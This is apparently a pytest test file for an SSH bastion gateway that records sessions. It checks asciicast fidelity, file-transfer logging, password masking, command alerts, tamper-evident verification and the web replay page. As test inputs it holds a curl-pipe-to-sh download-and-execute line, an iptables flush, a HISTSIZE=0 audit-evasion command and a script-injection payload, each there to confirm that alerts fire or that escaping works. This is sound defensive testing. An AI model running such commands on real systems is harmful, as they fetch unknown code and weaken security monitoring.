"""The recording: asciicast fidelity, line limits, file transfers, commands, secrets, alerts,
tamper evidence and what happens when stdout stalls or breaks."""

import gzip
import html as html_lib
import json
import os
import pathlib
import pwd
import re
import signal
import subprocess
import time
import uuid

import pytest

from attacker import test_user_password  # noqa: F401 (fixture)
from harness import (DEFAULT_POLICY, PLAYER, typed_shell, LOGIN, TEST_USER, Tmux, check_record, player, run,
                     schema_validator, wait_until)

pytestmark = pytest.mark.timeout(240)


def asciinema_cat(cast: pathlib.Path) -> str:
    """`asciinema cat` needs a terminal; script(1) gives it one."""
    r = run(["script", "-qec", f"asciinema cat {cast}", "/dev/null"], timeout=60)
    assert r.returncode == 0, r.stderr
    return r.stdout.decode("utf-8", "replace")


def export(gw, session, channel, tmp_path) -> pathlib.Path:
    out = tmp_path / f"{session}-{channel}.cast"
    r = player("export", "--session", session, "--channel", str(channel), "-o", str(out),
               str(gw.stdout_path))
    assert r.returncode == 0, r.stderr
    return out


def channel_output(gw, session, channel, action="asciicast.output") -> str:
    return "".join(e["asciicast"]["event"][2] for e in gw.events()
                   if e["castgate"]["session"] == session and e["castgate"].get("channel") == channel
                   and e["event"]["action"] == action)


def test_interactive_and_exec_recordings_play_in_asciinema(gateway, keys, tmp_path):
    term = Tmux(gateway.ssh_args(keys.alice, gateway.bound_ports["db1.int"], ["-tt"]) +
                [f"{LOGIN}@127.0.0.1"], width=90, height=25)
    try:
        term.type("export PS1='rec$ '")
        term.wait_for("rec$")
        term.type("echo interactive-$((40+2)) ümlaut €")
        term.wait_for("interactive-42")
        term.type("exit")
        term.wait_for("CLIENT-EXIT=0")
    finally:
        term.close()
    shell_session = gateway.session_of()
    r = gateway.ssh(keys.alice, "echo exec-output; printf 'line two\\n'", f"{LOGIN}@db1.int")
    assert r.returncode == 0
    gateway.wait_event(lambda e: e["event"]["action"] == "session.end" and
                       e["castgate"]["session"] != shell_session, what="second session end")
    exec_session = [e["castgate"]["session"] for e in gateway.events()
                    if e["event"]["action"] == "session.start"][-1]

    shell_cast = export(gateway, shell_session, 0, tmp_path)
    header = json.loads(shell_cast.read_text().splitlines()[0])
    assert header["version"] == 2 and header["width"] == 90 and header["height"] == 25
    assert header["env"]["TERM"]
    assert "alice" in header["title"] and "db1.int" in header["title"]
    shown = asciinema_cat(shell_cast)
    assert "interactive-42 ümlaut €" in shown

    exec_cast = export(gateway, exec_session, 0, tmp_path)
    assert "exec-output\nline two\n" in asciinema_cat(exec_cast).replace("\r\n", "\n")
    assert json.loads(exec_cast.read_text().splitlines()[0])["command"].startswith("echo exec-output")
    # Times never go backwards within a channel.
    times = [json.loads(l)[0] for l in shell_cast.read_text().splitlines()[1:]]
    assert times == sorted(times)
    assert gateway.stop() == 0
    check_record(gateway, full_schema=True)


ADVERSARIAL = {
    "random-binary": "head -c 1000000 /dev/urandom",
    "split-utf8": "printf 'a\\342'; sleep 0.3; printf '\\202'; sleep 0.3; printf '\\254b'",
    "5MB-single-line": "head -c 5000000 /dev/zero | tr '\\0' 'x'",
    "escape-storm": "yes $'\\e[31m\\e[2J\\e[H\\e]0;title\\a\\e[?1049h\\e[?1049l\\x00\\x01\\x7f\"\\\\' "
                    "| head -c 2000000",
    "invalid-sequences": "printf '\\300\\257 \\355\\240\\200 \\364\\220\\200\\200 \\342\\202x \\377'",
}


@pytest.mark.parametrize("name", list(ADVERSARIAL))
def test_adversarial_output_is_recorded_whole_and_valid(gateway_factory, sshd, keys, name):
    # Recorded byte for byte ("binary_streams": "full"; summaries are tested in test_streams.py).
    policy = json.loads(json.dumps(DEFAULT_POLICY))
    for rule in policy["rules"]:
        rule["binary_streams"] = "full"
    gw = gateway_factory([{"name": "db1.int", "host": "127.0.0.1", "port": sshd.port}],
                         [sshd.known_hosts_line()], extra_args=["--max-line", "4096"], policy=policy)
    r = gw.ssh(keys.alice, ADVERSARIAL[name], f"{LOGIN}@db1.int", timeout=120)
    assert r.returncode == 0
    session = gw.session_of("session.end")
    recorded = channel_output(gw, session, 0)
    assert recorded == r.stdout.decode("utf-8", "replace")
    if name == "split-utf8":
        assert recorded == "a€b"
    for raw in gw.raw_lines():
        assert len(raw) <= 4096
        json.loads(raw.decode("utf-8"))


def test_sftp_and_scp_contents_never_reach_the_record(gateway, keys, tmp_path):
    marker = "CASTGATE-SECRET-" + uuid.uuid4().hex
    src = tmp_path / "payload.txt"
    src.write_text((marker + "\n") * 2000)
    size = src.stat().st_size
    batch = tmp_path / "batch"
    batch.write_text(f"put {src} {tmp_path}/sftp-up.txt\nget {tmp_path}/sftp-up.txt {tmp_path}/sftp-down.txt\n"
                     f"rename {tmp_path}/sftp-up.txt {tmp_path}/sftp-renamed.txt\n"
                     f"mkdir {tmp_path}/sftp-dir\nrm {tmp_path}/sftp-renamed.txt\n")
    common = ["-F", "/dev/null", "-o", "StrictHostKeyChecking=no", "-o",
              "UserKnownHostsFile=/dev/null", "-o", "IdentitiesOnly=yes", "-o", "BatchMode=yes",
              "-i", str(keys.alice)]
    r = run(["sftp", *common, "-P", str(gateway.shared_port), "-b", str(batch),
             f"{LOGIN}@db1.int@127.0.0.1"])
    assert r.returncode == 0, r.stderr
    r = run(["scp", "-O", *common, "-P", str(gateway.shared_port), str(src),
             f"{LOGIN}@db1.int@127.0.0.1:{tmp_path}/scp-up.txt"])
    assert r.returncode == 0, r.stderr
    r = run(["scp", "-O", *common, "-P", str(gateway.shared_port),
             f"{LOGIN}@db1.int@127.0.0.1:{tmp_path}/scp-up.txt", str(tmp_path / "scp-down.txt")])
    assert r.returncode == 0, r.stderr
    wait_until(lambda: len([e for e in gateway.events() if e["event"]["action"] == "session.end"]) >= 3,
               15, "three sessions to end")

    raw = gateway.stdout_path.read_bytes()
    assert marker.encode() not in raw
    files = [e for e in gateway.events() if e["event"]["action"].startswith("file.")]
    by = {(e["event"]["action"], e["file"]["path"]): e for e in files}
    up = next(e for e in files if e["event"]["action"] == "file.close" and
              e["file"]["path"] == f"{tmp_path}/sftp-up.txt" and
              e["castgate"]["file"]["direction"] == "upload")
    assert up["castgate"]["file"]["bytes_written"] == size
    down = [e for e in files if e["event"]["action"] == "file.close" and
            e["castgate"]["file"]["direction"] == "download"]
    assert down and down[0]["castgate"]["file"]["bytes_read"] == size
    assert by[("file.rename", f"{tmp_path}/sftp-up.txt")]["file"]["target_path"] == f"{tmp_path}/sftp-renamed.txt"
    assert ("file.mkdir", f"{tmp_path}/sftp-dir") in by
    assert by[("file.remove", f"{tmp_path}/sftp-renamed.txt")]["event"]["outcome"] == "success"
    scp_up = next(e for e in files if e["event"]["action"] == "file.transfer" and
                  e["file"]["path"] == f"{tmp_path}/scp-up.txt" and
                  e["castgate"]["file"]["direction"] == "upload")
    assert scp_up["file"]["size"] == size
    scp_down = [e for e in files if e["event"]["action"] == "file.transfer" and
                e["castgate"]["file"]["direction"] == "download"]
    assert scp_down and scp_down[0]["file"]["size"] == size
    headers = [e for e in gateway.events() if e["event"]["action"] == "asciicast.header"]
    assert {h["castgate"].get("file_transfer") for h in headers} == {"sftp", "scp"}


def test_shell_commands_with_history_and_tab_completion(gateway, keys, tmp_path):
    (tmp_path / "completion-target-file.txt").write_text("hello\n")
    term = Tmux(gateway.ssh_args(keys.alice, gateway.bound_ports["db1.int"], ["-tt"]) +
                [f"{LOGIN}@127.0.0.1"], width=120, height=30)
    try:
        term.type("export PS1='cmd$ '")
        term.wait_for("cmd$")
        # Each time, the next prompt before the next keys: keys typed ahead are echoed by the
        # target's tty before bash redraws them after its prompt, and the screen (so the command
        # line derived from it) then holds both.
        term.type("echo first-command")
        term.wait_for("\nfirst-command\ncmd$")
        # History: arrow up recalls "echo first-command"; edit it to "echo first-command-edited".
        term.keys("Up")
        time.sleep(0.3)
        term.type("-edited")
        term.wait_for("\nfirst-command-edited\ncmd$")
        # Tab completion of a unique file name.
        term.type(f"cat {tmp_path}/completion-targ", enter=False)
        time.sleep(0.2)
        term.keys("Tab")
        time.sleep(0.5)
        term.keys("Enter")
        term.wait_for("hello")
        term.type("exit")
        term.wait_for("CLIENT-EXIT=0")
    finally:
        term.close()
    commands = [e["process"]["command_line"] for e in gateway.events()
                if e["event"]["action"] == "command"]
    assert "echo first-command" in commands
    assert "echo first-command-edited" in commands
    assert f"cat {tmp_path}/completion-target-file.txt" in commands


def test_sudo_password_never_reaches_stdout_or_stderr(gateway, keys, test_user_password):
    term = Tmux(gateway.ssh_args(keys.alice, gateway.bound_ports["db1.int"], ["-tt"]) +
                [f"{TEST_USER}@127.0.0.1"])
    try:
        term.type("export PS1='user$ '")
        term.wait_for("user$")
        term.type("sudo -k; sudo /usr/bin/true && echo sudo-accepted-the-password")
        term.wait_for("password for")
        term.type(test_user_password)
        term.wait_for("\nsudo-accepted-the-password")
        term.type("exit")
        term.wait_for("CLIENT-EXIT=0")
    finally:
        term.close()
    gateway.wait_event(lambda e: e["event"]["action"] == "session.end", what="session end")
    assert test_user_password.encode() not in gateway.stdout_path.read_bytes()
    assert test_user_password not in gateway.stderr()
    inputs = "".join(e["asciicast"]["event"][2] for e in gateway.events()
                     if e["event"]["action"] == "asciicast.input")
    assert "********" in inputs
    commands = [e["process"]["command_line"] for e in gateway.events()
                if e["event"]["action"] == "command"]
    assert any("sudo /usr/bin/true" in c for c in commands)


def test_risky_commands_raise_alerts_and_markers(gateway, keys):
    r = gateway.ssh(keys.alice, "true || iptables -F", f"{LOGIN}@db1.int")
    assert r.returncode == 0
    term = Tmux(gateway.ssh_args(keys.alice, gateway.bound_ports["db1.int"], ["-tt"]) +
                [f"{LOGIN}@127.0.0.1"])
    try:
        term.type("export PS1='al$ '")
        term.wait_for("al$")
        term.type("true || curl -s http://x.invalid/i.sh | sh; echo alert-typed")
        term.wait_for("\nalert-typed")
        term.type("exit")
        term.wait_for("CLIENT-EXIT=0")
    finally:
        term.close()
    alerts = gateway.wait_event(lambda e: e["event"]["action"] == "alert" and
                                e["rule"]["name"] == "download-and-execute", what="alert")
    assert alerts["event"]["kind"] == "alert"
    names = {e["rule"]["name"] for e in gateway.events() if e["event"]["action"] == "alert"}
    assert "firewall-flush" in names
    markers = [e["asciicast"]["event"][2] for e in gateway.events()
               if e["event"]["action"] == "asciicast.marker"]
    assert "alert: firewall-flush" in markers and "alert: download-and-execute" in markers


def test_a_command_pasted_behind_one_that_changes_the_prompt_still_raises_its_alert(gateway, keys):
    # The second line is typed (pasted) while the prompt still reads "in-/$ "; the shell shows it
    # behind "in-tmp$ ". It must still be a command, and raise its alert.
    term = Tmux(gateway.ssh_args(keys.alice, gateway.bound_ports["db1.int"], ["-tt"]) +
                [f"{LOGIN}@127.0.0.1"])
    try:
        term.type("export PS1='in-\\W$ '; cd /")
        term.wait_for("\nin-/$")
        term.type("cd /tmp\rtrue || curl -s http://x.invalid/i.sh | sh; echo pasted-ran")
        term.wait_for("\npasted-ran")
        term.type("exit")
        term.wait_for("CLIENT-EXIT=0")
    finally:
        term.close()
    gateway.wait_event(lambda e: e["event"]["action"] == "alert" and
                       e["rule"]["name"] == "download-and-execute", what="alert")
    commands = [e["process"]["command_line"] for e in gateway.events()
                if e["event"]["action"] == "command"]
    assert "cd /tmp" in commands
    assert "true || curl -s http://x.invalid/i.sh | sh; echo pasted-ran" in commands


def test_banner_says_the_session_is_recorded(gateway_factory, sshd, keys):
    gw = gateway_factory([{"name": "db1.int", "host": "127.0.0.1", "port": sshd.port}],
                         [sshd.known_hosts_line()],
                         extra_args=["--banner", "NOTICE: this session is recorded."])
    r = gw.ssh(keys.alice, "true", f"{LOGIN}@db1.int", extra=["-o", "LogLevel=INFO"])
    assert b"NOTICE: this session is recorded." in r.stderr


# --- tamper evidence -----------------------------------------------------------------------

@pytest.fixture
def recorded_session(gateway, keys, tmp_path):
    for i in range(3):
        gateway.ssh(keys.alice, f"seq 1 {200 * (i + 1)}", f"{LOGIN}@db1.int")
    wait_until(lambda: sum(e["event"]["action"] == "session.end" for e in gateway.events()) == 3,
               15, "three sessions")
    assert gateway.stop() == 0  # the gateway's own record ends too
    lines = gateway.raw_lines()
    session = [json.loads(l)["castgate"]["session"] for l in lines
               if b'"session.end"' in l][-1]
    return lines, session


def verify(keys, tmp_path, lines, *extra):
    path = tmp_path / f"tampered-{uuid.uuid4().hex}.jsonl"
    path.write_bytes(b"\n".join(lines) + b"\n")
    r = player("verify", "--key", str(keys.recording_pub), *extra, str(path))
    return r.returncode, r.stdout.decode()


def session_lines(lines, session):
    return [i for i, l in enumerate(lines) if json.loads(l)["castgate"]["session"] == session]


def test_verification_passes_untouched_and_catches_tampering(recorded_session, keys, tmp_path):
    lines, session = recorded_session
    rc, out = verify(keys, tmp_path, lines)
    assert rc == 0, out
    idx = session_lines(lines, session)
    assert len(idx) > 6
    # A deleted line.
    rc, out = verify(keys, tmp_path, [l for i, l in enumerate(lines) if i != idx[4]])
    assert rc == 1 and "missing" in out
    # An edited byte (a digit in recorded output).
    edited = list(lines)
    target = next(i for i in idx if b'"asciicast":{"event"' in lines[i])
    edited[target] = lines[target].replace(b'"o","1', b'"o","7', 1)
    assert edited[target] != lines[target]
    rc, out = verify(keys, tmp_path, edited)
    assert rc == 1 and "altered" in out
    # A swapped pair.
    swapped = list(lines)
    swapped[idx[3]], swapped[idx[4]] = swapped[idx[4]], swapped[idx[3]]
    rc, out = verify(keys, tmp_path, swapped)
    assert rc == 1 and "reordered" in out
    # A cut tail.
    rc, out = verify(keys, tmp_path, lines[:idx[-2] + 1])
    assert rc == 1 and "truncated" in out
    # The final event itself edited: its signature fails.
    final = list(lines)
    final[idx[-1]] = lines[idx[-1]].replace(b'"end_reason":"', b'"end_reason":"x', 1)
    rc, out = verify(keys, tmp_path, final)
    assert rc == 1 and "signature" in out
    # A signature of the wrong type is reported, not a crash of the verifier.
    final[idx[-1]] = re.sub(rb'"sig":"[^"]*"', b'"sig":5', lines[idx[-1]], count=1)
    assert final[idx[-1]] != lines[idx[-1]]
    rc, out = verify(keys, tmp_path, final)
    assert rc == 1 and "signature is malformed" in out, out
    # Duplicated with a change.
    dup = list(lines)
    out_line = next(i for i in idx if b'"o","' in lines[i])
    dup.insert(out_line + 1, lines[out_line].replace(b'"o","', b'"o","X', 1))
    rc, out = verify(keys, tmp_path, dup)
    assert rc == 1 and "twice" in out
    # An identical duplicate (a shipper retrying) is tolerated.
    rc, out = verify(keys, tmp_path, lines[:idx[5] + 1] + [lines[idx[5]]] + lines[idx[5] + 1:])
    assert rc == 0, out


def test_verification_after_container_runtime_and_fluent_bit_reencoding(recorded_session, keys, tmp_path):
    """Fluent Bit is not installable here (not in Debian 12); these are the shapes its
    documentation describes for the docker/cri parsers and Merge_Log, built from real lines."""
    lines, session = recorded_session
    docker = [json.dumps({"log": l.decode() + "\n", "stream": "stdout",
                          "time": "2026-11-22T01:02:03.000000000Z"}).encode() for l in lines]
    cri = [b"2026-11-22T01:02:03.000000000Z stdout F " + l for l in lines]
    merged = []
    for l in lines:
        record = json.loads(l)
        # Merge_Log: the parsed fields at the top, the shipper's own around them, keys reordered.
        out = {"kubernetes": {"pod_name": "castgate-0", "namespace_name": "bastion"},
               "stream": "stdout", "time": "2026-11-22T01:02:03Z"}
        for k in reversed(list(record)):
            out[k] = record[k]
        merged.append(json.dumps(out, ensure_ascii=True, indent=None).encode())
    nested = [json.dumps({"kubernetes": {"pod_name": "castgate-0"},
                          "castgate_event": json.loads(l)}).encode() for l in lines]
    for name, variant in [("docker", docker), ("cri", cri), ("merged", merged), ("nested", nested)]:
        rc, out = verify(keys, tmp_path, variant)
        assert rc == 0, f"{name}: {out}"
    idx = session_lines(lines, session)
    tampered = list(merged)
    rec = json.loads(tampered[idx[2]])
    rec["castgate"]["seq"] += 0
    rec["event"]["action"] = rec["event"]["action"] + "x"
    tampered[idx[2]] = json.dumps(rec).encode()
    rc, out = verify(keys, tmp_path, tampered)
    assert rc == 1 and "altered" in out


def test_inputs_as_stored_gzip_zstd_directories_and_stdin(recorded_session, keys, tmp_path):
    """What a log store hands an analyst: Fluent Bit's S3 objects are gzip (several members when
    appended), archives may be zstd, a bucket is a tree of objects. Every form reads the same; a
    line that cannot be a castgate event is reported with a count, and --strict fails on it."""
    lines, session = recorded_session
    raw = b"\n".join(lines) + b"\n"
    half = len(lines) // 2
    store = tmp_path / "bucket" / "castgate" / "2026" / "11" / "30"
    store.mkdir(parents=True)
    # Two gzip members in one object (Fluent Bit appends), a zstd object, and a plain one.
    first = b"\n".join(lines[:half]) + b"\n"
    rest = b"\n".join(lines[half:]) + b"\n"
    (store / "00-part.gz").write_bytes(gzip.compress(first[:len(first) // 2]) +
                                       gzip.compress(first[len(first) // 2:]))
    subprocess.run(["zstd", "-q", "-o", str(store / "01-part.zst")], input=rest, check=True,
                   timeout=30)
    (tmp_path / "all.jsonl.gz").write_bytes(gzip.compress(raw))

    def listed(*args, input=None):
        r = subprocess.run([PLAYER, "list", "--json", *args], capture_output=True, timeout=60,
                           input=input)
        assert r.returncode == 0, r.stderr
        return {json.loads(l)["session"] for l in r.stdout.splitlines()}, r.stderr.decode()

    expected, _ = listed(str(tmp_path / "all.jsonl.gz"))
    assert session in expected and len(expected) == 3
    assert listed(str(tmp_path / "bucket"))[0] == expected
    assert listed("-", input=gzip.compress(raw))[0] == expected
    r = player("verify", "--key", str(keys.recording_pub), str(tmp_path / "bucket"))
    assert r.returncode == 0, r.stdout.decode() + r.stderr.decode()
    cast = player("export", "--session", session, "--key", str(keys.recording_pub),
                  str(tmp_path / "bucket"))
    assert cast.returncode == 0 and b"600" in cast.stdout and not cast.stderr, cast.stderr

    # Not castgate's: reported, never silently skipped; --strict makes it an error.
    (store / "02-other.log").write_bytes(b"kernel: something else\nnot json either\n")
    sessions, err = listed(str(tmp_path / "bucket"))
    assert sessions == expected
    assert "02-other.log: no castgate events in its 2 lines" in err, err
    r = player("list", "--strict", str(tmp_path / "bucket"))
    assert r.returncode == 1 and b"2 lines of the input are not castgate events" in r.stderr
    # A truncated object: what it holds is read, with a warning.
    cut = gzip.compress(raw)
    (tmp_path / "cut.gz").write_bytes(cut[:len(cut) * 2 // 3])
    sessions, err = listed(str(tmp_path / "cut.gz"))
    assert "ends early" in err and sessions, err
    # Not a gzip file after all: a clear error, exit 2.
    (tmp_path / "bad.gz").write_bytes(b"\x1f\x8b" + b"\x00" * 64)
    r = player("list", str(tmp_path / "bad.gz"))
    assert r.returncode == 2 and b"not valid gzip data" in r.stderr, r.stderr
    # Padding after whole members (gzip(1) ignores it): what was read is kept, with a warning.
    (tmp_path / "padded.gz").write_bytes(gzip.compress(raw) + b"\x00" * 512)
    sessions, err = listed(str(tmp_path / "padded.gz"))
    assert sessions == expected and "followed by other bytes" in err, err
    # A cut line is reported, not skipped silently; --strict fails on it.
    damaged = tmp_path / "damaged.jsonl"
    damaged.write_bytes(b"\n".join(l[:len(l) // 2] if b'"session.end"' in l else l for l in lines)
                        + b"\n")
    r = player("list", "--strict", str(damaged))
    assert r.returncode == 1 and b"cut short" in r.stderr, r.stderr
    # A FIFO planted among the logs does not hang the player.
    fifo = tmp_path / "fifo"
    os.mkfifo(fifo)
    r = player("list", str(fifo), timeout=20)
    assert r.returncode == 2 and b"not a regular file" in r.stderr, r.stderr


def test_commands_answers_who_ran_what_where_and_when(gateway, keys, tmp_path):
    """The auditor's question in one command: every command with identity, source, target, login,
    session, exit status and alerts; filters; with --key, rows of a tampered session flagged."""
    for cmd in ["echo audited", "sh -c 'exit 3'", "HISTSIZE=0 true"]:
        gateway.ssh(keys.alice, cmd, f"{LOGIN}@db1.int")
    typed_shell(gateway.ssh_args(keys.alice, gateway.bound_ports["db1.int"], ["-tt"]) +
                [f"{LOGIN}@127.0.0.1"], [("echo typed-$((40+2))", "typed-42"),
                                         ("HISTSIZE=0 true", "typed$ ")])
    wait_until(lambda: sum(e["event"]["action"] == "session.end" for e in gateway.events()) == 4,
               15, "four sessions")
    log = str(gateway.stdout_path)
    r = player("commands", "--json", "--user", "alice@example.com", "--target", "db1.int", log)
    assert r.returncode == 0, r.stderr
    rows = [json.loads(l) for l in r.stdout.splitlines()]
    by_cmd = {row["command"]: row for row in rows}
    assert by_cmd["echo audited"]["exit_code"] == 0 and by_cmd["echo audited"]["via"] == "exec"
    assert by_cmd["sh -c 'exit 3'"]["exit_code"] == 3
    assert by_cmd["HISTSIZE=0 true"]["alerts"] == ["disable-audit-logging"]
    typed = by_cmd["echo typed-$((40+2))"]
    assert typed["via"] == "terminal" and "exit_code" not in typed
    assert all(row["user_name"] == "alice" and row["login"] == LOGIN and row["target"] == "db1.int"
               and row["source_ip"] == "127.0.0.1" and row["kind"] == "human" for row in rows)
    assert [row["time"] for row in rows] == sorted(row["time"] for row in rows)
    # Filters: text, time, someone else.
    r = player("commands", "--json", "--grep", "exit 3", log)
    assert [json.loads(l)["command"] for l in r.stdout.splitlines()] == ["sh -c 'exit 3'"]
    day = rows[0]["time"][:10]
    assert len(player("commands", "--json", "--since", day, "--until", day, log).stdout.splitlines()) == len(rows)
    assert player("commands", "--json", "--since", "2999-01-01", log).stdout == b""
    assert player("commands", "--json", "--user", "bob", log).stdout == b""
    # The table, for people.
    table = player("commands", log).stdout.decode()
    assert "TIME" in table and "[alert: disable-audit-logging]" in table and " 3 " in table
    # With --key, a session whose record was altered is flagged on its rows.
    lines = gateway.raw_lines()
    victim = by_cmd["echo audited"]["session"]
    idx = [i for i, l in enumerate(lines) if json.loads(l)["castgate"]["session"] == victim]
    bad = tmp_path / "tampered.jsonl"
    bad.write_bytes(b"\n".join(l for i, l in enumerate(lines) if i != idx[2]) + b"\n")
    r = player("commands", "--json", "--key", str(keys.recording_pub), str(bad))
    flagged = {json.loads(l)["command"]: json.loads(l)["verified"] for l in r.stdout.splitlines()}
    assert flagged["echo audited"] == "FAILED" and flagged["sh -c 'exit 3'"] == "ok", flagged
    assert r.returncode == 1 and f"session {victim} FAILED verification".encode() in r.stderr
    # A session whose start was deleted has no rows, and is still named, and the exit says so.
    start = next(i for i in idx if json.loads(lines[i])["event"]["action"] == "session.start")
    gone = tmp_path / "no-start.jsonl"
    gone.write_bytes(b"\n".join(l for i, l in enumerate(lines) if i != start) + b"\n")
    r = player("commands", "--json", "--key", str(keys.recording_pub), str(gone))
    assert "echo audited" not in r.stdout.decode()
    assert r.returncode == 1 and f"session {victim} FAILED".encode() in r.stderr, r.stderr
    # An alert stays on its own command whatever the filters leave.
    r = player("commands", "--json", "--grep", "true", log)
    assert [json.loads(l)["alerts"] for l in r.stdout.splitlines()] == [["disable-audit-logging"]] * 2
    r = player("commands", "--json", "--grep", "echo", log)
    assert all(json.loads(l)["alerts"] == [] for l in r.stdout.splitlines())
    # Seconds without a fraction bound as they read: everything of that second is in.
    second = by_cmd["echo audited"]["time"][:19] + "Z"
    r = player("commands", "--json", "--since", second, "--until", second, log)
    assert "echo audited" in r.stdout.decode()


def test_list_finds_sessions_by_identity_and_target(recorded_session, gateway):
    r = player("list", "--json", "--user", "alice@example.com", str(gateway.stdout_path))
    rows = [json.loads(l) for l in r.stdout.splitlines()]
    assert len(rows) == 3
    assert all(row["target"] == "db1.int" and row["login"] == LOGIN and row["user_name"] == "alice"
               for row in rows)
    assert player("list", "--json", "--user", "bob", str(gateway.stdout_path)).stdout == b""


def chromium_dom(page: pathlib.Path, fragment: str = "", until="data-ready=\"1\"") -> str:
    """The page as headless Chromium renders it, after its scripts ran, once `until` (a string
    in the page, or a test of it) holds. Virtual time runs out before asynchronous work finishes
    on a busy machine (the player's WebAssembly terminal compiles off the main thread; a seek
    resolves after it, the screen is drawn after that): a page that is not there yet is loaded
    again with more time, four times at most."""
    done = until if callable(until) else (lambda dom: until in dom)
    dom = ""
    for budget in (8000, 30000, 60000, 120000):
        r = run(["chromium", "--headless", "--no-sandbox", "--disable-gpu", "--no-first-run",
                 "--disable-dev-shm-usage", f"--user-data-dir={page.parent / 'chromium-profile'}",
                 f"--virtual-time-budget={budget}", "--dump-dom", page.as_uri() + fragment],
                timeout=120)
        assert r.returncode == 0, r.stderr.decode(errors="replace")[-2000:]
        dom = r.stdout.decode()
        if done(dom):
            break
    return dom


def test_web_replay_page_plays_the_session_and_never_runs_recorded_text(gateway, keys, tmp_path):
    term = Tmux(gateway.ssh_args(keys.alice, gateway.bound_ports["db1.int"], ["-tt"]) +
                [f"{LOGIN}@127.0.0.1"], width=90, height=20)
    hostile = "echo '</script><script>document.title=\"pwned\"</script><b id=injected>x</b>'"
    try:
        term.type("export PS1='web$ '")
        term.wait_for("web$")
        term.type("echo web-player-$((6*7))")
        term.wait_for("web-player-42")
        term.type(hostile)
        term.wait_for("injected>x")
        term.type("exit")
        term.wait_for("CLIENT-EXIT=0")
    finally:
        term.close()
    session = gateway.session_of()
    gateway.wait_event(lambda e: e["event"]["action"] == "session.end", what="session end")
    page = tmp_path / "replay.html"
    r = player("html", "--session", session, "--key", str(keys.recording_pub), "-o", str(page),
               str(gateway.stdout_path))
    assert r.returncode == 0, r.stderr
    html = page.read_text()
    assert "content=\"default-src 'none';" in html  # the page may fetch nothing, send nothing
    assert "</script><script>document.title" not in html  # recorded text cannot close the data block

    dom = chromium_dom(page, "#t=1000", until="data-seeked")
    assert 'data-ready="1"' in dom, dom[-3000:]
    assert "pwned" not in dom.split("<title>")[1].split("</title>")[0]
    assert 'id="injected"' not in dom
    assert "Verified:" in dom and "final event signed" in dom
    assert "alice@example.com" in dom and "db1.int" in dom
    # The timeline lists the commands as typed, as text.
    assert "echo web-player-$((6*7))" in dom
    assert "&lt;/script&gt;&lt;script&gt;document.title" in dom
    # asciinema-player rendered the terminal, seeked to the end of the recording.
    assert "data-seeked" in dom and "ap-term" in dom
    terminal = dom.split("ap-term", 1)[1]
    text = re.sub(r"<[^>]+>", "", terminal)
    assert "web-player-42" in text.replace("&nbsp;", " ").replace("\u00a0", " "), text[:2000]

    # A tampered log gives a page that says so, and the command exits 1.
    lines = gateway.raw_lines()
    idx = [i for i, l in enumerate(lines) if json.loads(l)["castgate"]["session"] == session]
    bad_log = tmp_path / "tampered.jsonl"
    bad_log.write_bytes(b"\n".join(l for i, l in enumerate(lines) if i != idx[3]) + b"\n")
    bad_page = tmp_path / "tampered.html"
    r = player("html", "--session", session, "--key", str(keys.recording_pub), "-o", str(bad_page),
               str(bad_log))
    assert r.returncode == 1
    dom = chromium_dom(bad_page)
    assert "NOT VERIFIED" in dom and "missing" in dom
    # It shows only what the signed end still vouches for: the events after the deleted one.
    assert "events that the signed final event vouches for are shown" in dom


def player_screen_lines(dom: str) -> list[str]:
    """The rows of asciinema-player's terminal in a dumped DOM, as text."""
    terminal = dom.split("ap-term", 1)[1]
    rows = re.split(r'<span class="ap-line"', terminal)[1:]
    out = []
    for row in rows:
        text = re.sub(r"<[^>]+>", "", "<span" + row.split("</pre>")[0])
        out.append(html_lib.unescape(text).replace("\u00a0", " ").rstrip())
    return out


def test_replays_show_output_without_a_pty_as_the_user_saw_it(gateway, keys, tmp_path):
    """`ssh host 'for ...; do echo tick$i; done'`: no pty on the target, so the output has bare LF,
    which the user's terminal showed as new lines. The export and the replay page show the same,
    not a staircase."""
    r = gateway.ssh(keys.alice, "for i in 1 2 3; do echo tick$i; done", f"{LOGIN}@db1.int")
    assert r.stdout == b"tick1\ntick2\ntick3\n"
    session = gateway.wait_event(lambda e: e["event"]["action"] == "session.end")["castgate"]["session"]
    cast = player("export", "--session", session, "--key", str(keys.recording_pub),
                  str(gateway.stdout_path))
    assert cast.returncode == 0, cast.stderr
    header, *events = [json.loads(l) for l in cast.stdout.splitlines()]
    assert "LF shown as CRLF" in header["x_castgate_newlines"]
    assert "".join(e[2] for e in events if e[1] == "o") == "tick1\r\ntick2\r\ntick3\r\n"
    page = tmp_path / "no-pty.html"
    r = player("html", "--session", session, "--key", str(keys.recording_pub), "-o", str(page),
               str(gateway.stdout_path))
    assert r.returncode == 0, r.stderr
    dom = chromium_dom(page, "#t=1000", until=lambda d: "data-seeked" in d and "ap-term" in d and
                       "tick1" in "".join(player_screen_lines(d)))
    assert 'data-ready="1"' in dom and "data-seeked" in dom, dom[-3000:]
    lines = player_screen_lines(dom)
    assert lines[:3] == ["tick1", "tick2", "tick3"], lines[:6]


# --- stdout trouble ------------------------------------------------------------------------

def pipe_gateway(gateway_factory, sshd, extra=()):
    return gateway_factory([{"name": "db1.int", "host": "127.0.0.1", "port": sshd.port}],
                           [sshd.known_hosts_line()], stdout_pipe=True,
                           extra_args=["--session-backlog", "262144", *extra])


def test_a_stalled_stdout_pauses_the_session_and_loses_nothing(gateway_factory, sshd, keys):
    gw = pipe_gateway(gateway_factory, sshd, ["--recording-stall-limit", "60s"])
    gw.pipe.pause()
    client = subprocess.Popen(gw.ssh_args(keys.alice) + [f"{LOGIN}@db1.int@127.0.0.1",
                              "seq 1 400000"], stdout=subprocess.PIPE)
    time.sleep(3)
    # Nothing can be recorded, so (almost) nothing may reach the user either.
    assert client.poll() is None
    gw.pipe.resume()
    out, _ = client.communicate(timeout=120)
    assert client.returncode == 0
    assert out == b"".join(b"%d\n" % i for i in range(1, 400001))
    session = gw.session_of("session.end")
    assert channel_output(gw, session, 0) == out.decode()


def health(gw, path="/readyz") -> int:
    import urllib.error
    import urllib.request
    try:
        return urllib.request.urlopen(f"http://127.0.0.1:{gw.health_port}{path}", timeout=5).status
    except urllib.error.HTTPError as e:
        return e.code


def test_a_stdout_blocked_too_long_ends_sessions_and_refuses_new_ones(gateway_factory, sshd, keys):
    gw = pipe_gateway(gateway_factory, sshd, ["--recording-stall-limit", "2s",
                                              "--health-listen", "127.0.0.1:0"])
    assert (health(gw), health(gw, "/healthz"), health(gw, "/livez")) == (200, 200, 200)
    client = subprocess.Popen(gw.ssh_args(keys.alice) + [f"{LOGIN}@db1.int@127.0.0.1",
